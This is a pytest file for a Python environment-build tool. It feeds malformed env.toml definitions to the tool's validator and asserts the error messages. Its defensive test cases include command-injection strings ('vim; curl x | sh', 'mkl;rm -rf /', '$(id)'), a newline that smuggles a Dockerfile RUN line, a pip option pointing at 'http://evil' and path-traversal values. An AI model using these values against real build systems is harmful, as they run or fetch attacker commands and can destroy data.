"""A table of bad definitions and the messages they must produce.

Each case is a complete env.toml; every expected fragment must appear in the
rendered error, which must name the file and the key.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from envbuild.definition.model import load
from envbuild.errors import EXIT_DEFINITION, DefinitionError

HEAD = 'schema = 1\nname = "t"\nversion = 1\n'

CASES: list[tuple[str, str, list[str]]] = [
    ("missing-schema", 'name = "t"\n', ["schema: is required"]),
    ("missing-name", "schema = 1\n", ["name: is required"]),
    ("wrong-schema", 'schema = 2\nname = "t"\n', ["schema: 2 is not supported"]),
    ("schema-string", 'schema = "1"\nname = "t"\n', ["schema: expected an integer, got a string"]),
    (
        "bad-name-upper",
        'schema = 1\nname = "Torch"\n',
        ["name: 'Torch' is not a valid environment name"],
    ),
    (
        "bad-name-slash",
        'schema = 1\nname = "a/b"\n',
        ["name: 'a/b' is not a valid environment name"],
    ),
    (
        "negative-version",
        'schema = 1\nname = "t"\nversion = -1\n',
        ["version: expected an integer >= 0"],
    ),
    (
        "version-bool",
        'schema = 1\nname = "t"\nversion = true\n',
        ["version: expected an integer, got a boolean"],
    ),
    ("unknown-top-key", HEAD + 'pyhton = "x"\n', ["pyhton: unknown key", "did you mean 'python'?"]),
    (
        "unknown-sub-key",
        HEAD + '[pip]\npackage = ["six"]\n',
        ["pip.package: unknown key", "did you mean 'packages'?"],
    ),
    (
        "unknown-key-no-close",
        HEAD + "[run]\nzzz = 1\n",
        ["run.zzz: unknown key", "known keys here: shm_size, workdir"],
    ),
    (
        "newline-in-variable",
        HEAD + '[variables]\nA = "x\\nRUN touch /pwned"\n',
        ["variables.A: contains the control character '\\n'"],
    ),
    (
        "cr-in-description",
        'schema = 1\nname = "t"\ndescription = "a\\rb"\n',
        ["description: contains the control character '\\r'"],
    ),
    (
        "nul-in-variable",
        HEAD + '[variables]\nA = "x\\u0000"\n',
        ["variables.A: contains the control character '\\x00'"],
    ),
    (
        "u2028-in-description",
        'schema = 1\nname = "t"\ndescription = "a\\u2028b"\n',
        ["description: contains the control character"],
    ),
    (
        "variable-int",
        HEAD + "[variables]\nOMP_NUM_THREADS = 1\n",
        [
            "variables.OMP_NUM_THREADS: expected a string, got an integer",
            'quote it: OMP_NUM_THREADS = "1"',
        ],
    ),
    (
        "variable-bad-name",
        HEAD + '[variables]\n"1A" = "x"\n',
        ["variables.1A: '1A' is not a valid variable name"],
    ),
    (
        "variable-reserved",
        HEAD + '[variables]\nPATH = "/x"\n',
        ["variables.PATH: 'PATH' is reserved"],
    ),
    (
        "variable-reserved-prefix",
        HEAD + '[variables]\nENVBUILD_X = "1"\n',
        ["variables.ENVBUILD_X: 'ENVBUILD_X' is reserved"],
    ),
    (
        "pip-shell-meta",
        HEAD + '[pip]\npackages = ["a;touch /pwned"]\n',
        ["pip.packages[0]: 'a;touch /pwned' is not a PEP 508 requirement"],
    ),
    (
        "pip-subshell",
        HEAD + '[pip]\npackages = ["$(id)"]\n',
        ["pip.packages[0]: '$(id)' is not a PEP 508 requirement"],
    ),
    (
        "pip-option",
        HEAD + '[pip]\npackages = ["--index-url=http://evil"]\n',
        ["pip.packages[0]: '--index-url=http://evil' is a pip option"],
    ),
    (
        "pip-url",
        HEAD + '[pip]\npackages = ["x @ https://h/x.whl"]\n',
        ["is a direct URL reference"],
    ),
    (
        "pip-not-list",
        HEAD + '[pip]\npackages = "six"\n',
        ["pip.packages: expected an array of strings, got a string"],
    ),
    (
        "apt-injection",
        HEAD + '[system]\npackages = ["vim; curl x | sh"]\n',
        ["system.packages[0]: 'vim; curl x | sh' is not a Debian package name"],
    ),
    (
        "apt-option",
        HEAD + '[system]\npackages = ["--allow-unauthenticated"]\n',
        ["is not a Debian package name"],
    ),
    (
        "apt-subshell",
        HEAD + '[system]\npackages = ["vim$(id)"]\n',
        ["'vim$(id)' is not a Debian package name"],
    ),
    (
        "python-source",
        HEAD + '[python]\nsource = "sytem"\n',
        ["python.source: expected one of", "did you mean 'system'?"],
    ),
    (
        "python-version",
        HEAD + '[python]\nversion = "2.7"\n',
        ["python.version: '2.7' is not a Python version"],
    ),
    (
        "base-both",
        HEAD + '[base]\nimage = "debian:12"\ndockerfile = "b.Dockerfile"\n',
        ["base: sets both image and dockerfile"],
    ),
    (
        "base-bad-ref",
        HEAD + '[base]\nimage = "Debian:Latest!"\n',
        ["base.image: 'Debian:Latest!' is not an image reference"],
    ),
    (
        "base-dockerfile-escape",
        HEAD + '[base]\ndockerfile = "../x"\n',
        ["base.dockerfile: '../x' leaves the environment folder"],
    ),
    (
        "base-dockerfile-missing",
        HEAD + '[base]\ndockerfile = "nope.Dockerfile"\n',
        ["base.dockerfile: 'nope.Dockerfile' does not exist"],
    ),
    (
        "index-credentials",
        HEAD + '[pip]\nindex_url = "https://user:pw@pypi.example.com/simple"\n',
        ["pip.index_url: holds credentials", "secret"],
    ),
    (
        "index-not-http",
        HEAD + '[pip]\nindex_url = "ftp://x/simple"\n',
        ["pip.index_url: 'ftp://x/simple' is not an http(s) URL"],
    ),
    (
        "workdir-relative",
        HEAD + '[run]\nworkdir = "work"\n',
        ["run.workdir: 'work' is not an absolute path"],
    ),
    (
        "workdir-dotdot",
        HEAD + '[run]\nworkdir = "/a/../etc"\n',
        ["run.workdir: '/a/../etc' contains '..'"],
    ),
    ("shm-size", HEAD + '[run]\nshm_size = "lots"\n', ["run.shm_size: 'lots' is not a size"]),
    ("cuda", HEAD + '[gpu]\ncuda = "ten"\n', ["gpu.cuda: 'ten' is not a CUDA version"]),
    ("tests-missing-run", HEAD + '[[tests]]\nexpect = "x"\n', ["tests[0].run: is required"]),
    ("tests-empty-run", HEAD + "[[tests]]\nrun = []\n", ["tests[0].run: must not be empty"]),
    (
        "tests-run-string",
        HEAD + '[[tests]]\nrun = "python -c 1"\n',
        ["tests[0].run: expected an array of strings"],
    ),
    (
        "conda-bad",
        HEAD + '[conda]\npackages = ["mkl;rm -rf /"]\n',
        ["conda.packages[0]: 'mkl;rm -rf /' is not a conda package spec"],
    ),
    ("section-not-table", HEAD + 'pip = "six"\n', ["pip: expected a table, got a string"]),
    ("extends-absolute", HEAD + 'extends = "/etc"\n', ["extends: '/etc' is not a relative path"]),
    # Rules between keys, which `validate` must report as well as `render`.
    (
        "conda-python-without-version",
        HEAD + '[python]\nsource = "conda"\n',
        ["python.version: is required with python.source = 'conda'", 'version = "3.11"'],
    ),
    (
        "uv-python-without-version",
        HEAD + '[python]\nsource = "uv"\n',
        ["python.version: is required with python.source = 'uv'"],
    ),
    (
        "conda-packages-without-conda-python",
        HEAD + '[conda]\npackages = ["mkl"]\n',
        ["conda.packages: need python.source = 'conda' (it is 'system')", "[pip]"],
    ),
    (
        "conda-packages-with-uv-python",
        HEAD + '[python]\nversion = "3.11"\nsource = "uv"\n[conda]\npackages = ["mkl"]\n',
        ["conda.packages: need python.source = 'conda' (it is 'uv')"],
    ),
]


@pytest.mark.parametrize(("case", "text", "expected"), CASES, ids=[c[0] for c in CASES])
def test_bad_definition(write_env, case: str, text: str, expected: list[str]) -> None:
    folder = write_env(text)
    with pytest.raises(DefinitionError) as info:
        load(folder)
    rendered = info.value.render()
    assert "env.toml" in rendered
    for fragment in expected:
        assert fragment in rendered, f"{case}: {fragment!r} not in:\n{rendered}"
    assert info.value.exit_code == EXIT_DEFINITION


def test_table_is_large_enough() -> None:
    assert len(CASES) >= 25


def test_all_problems_reported_at_once(write_env) -> None:
    folder = write_env(
        'schema = 1\nname = "Bad Name"\nversoin = 2\n[pip]\npackages = ["a;b"]\n'
        '[variables]\nPATH = "x"\n'
    )
    with pytest.raises(DefinitionError) as info:
        load(folder)
    keys = [p.key for p in info.value.problems]
    assert keys == ["name", "versoin", "pip.packages[0]", "variables.PATH"]
    assert "did you mean 'version'?" in info.value.render()


def test_toml_syntax_error_has_line_and_column(write_env) -> None:
    folder = write_env('schema = 1\nname = "t"\n[pip\npackages = []\n')
    with pytest.raises(DefinitionError) as info:
        load(folder)
    problem = info.value.problems[0]
    assert problem.line == 3
    assert problem.column is not None
    assert "env.toml:3:" in info.value.render()
    assert "TOML syntax error" in info.value.render()


def test_missing_definition(tmp_path: Path) -> None:
    with pytest.raises(DefinitionError) as info:
        load(tmp_path / "nowhere")
    assert "no such environment definition" in info.value.render()


def test_folder_without_env_toml(tmp_path: Path) -> None:
    with pytest.raises(DefinitionError) as info:
        load(tmp_path)
    assert "has no env.toml" in info.value.render()


def test_not_utf8(tmp_path: Path) -> None:
    (tmp_path / "env.toml").write_bytes(b'name = "\xff"\n')
    with pytest.raises(DefinitionError) as info:
        load(tmp_path)
    assert "is not UTF-8 text" in info.value.render()


def test_base_dockerfile_trailing_continuation(write_env) -> None:
    folder = write_env(
        HEAD + '[base]\ndockerfile = "base.Dockerfile"\n',
        base__Dockerfile="FROM debian:bookworm-slim\nRUN true \\\n",
    )
    with pytest.raises(DefinitionError) as info:
        load(folder)
    assert "ends with a line continuation" in info.value.render()


def test_rules_between_keys_are_reported_with_every_other_problem(write_env) -> None:
    folder = write_env(
        HEAD + '[python]\nsource = "uv"\n[conda]\npackages = ["mkl"]\n[variables]\nPATH = "x"\n'
    )
    with pytest.raises(DefinitionError) as info:
        load(folder)
    keys = [p.key for p in info.value.problems]
    assert keys == ["variables.PATH", "python.version", "conda.packages"]


def test_a_rule_is_not_applied_to_a_value_that_is_already_wrong(write_env) -> None:
    folder = write_env(HEAD + '[python]\nsource = "cnda"\n[conda]\npackages = ["mkl"]\n')
    with pytest.raises(DefinitionError) as info:
        load(folder)
    assert [p.key for p in info.value.problems] == ["python.source"]


def test_rules_between_keys_see_what_the_parent_sets(write_env, tmp_path: Path) -> None:
    parent = tmp_path / "parent"
    parent.mkdir()
    (parent / "env.toml").write_text(
        'schema = 1\nname = "p"\n[python]\nversion = "3.11"\nsource = "conda"\n'
    )
    child = tmp_path / "child"
    child.mkdir()
    (child / "env.toml").write_text(
        'schema = 1\nname = "c"\nextends = "../parent"\n[conda]\npackages = ["mkl"]\n'
    )
    assert load(child).conda.packages == ("mkl",)
    (child / "env.toml").write_text(
        'schema = 1\nname = "c"\nextends = "../parent"\n[python]\nsource = "system"\n'
        '[conda]\npackages = ["mkl"]\n'
    )
    with pytest.raises(DefinitionError) as info:
        load(child)
    assert "conda.packages: need python.source = 'conda' (it is 'system')" in info.value.render()


def test_validate_reports_what_render_would_refuse(write_env) -> None:
    from envbuild.cli.main import main

    folder = write_env(HEAD + '[python]\nsource = "conda"\n')
    assert main(["validate", str(folder)]) == EXIT_DEFINITION
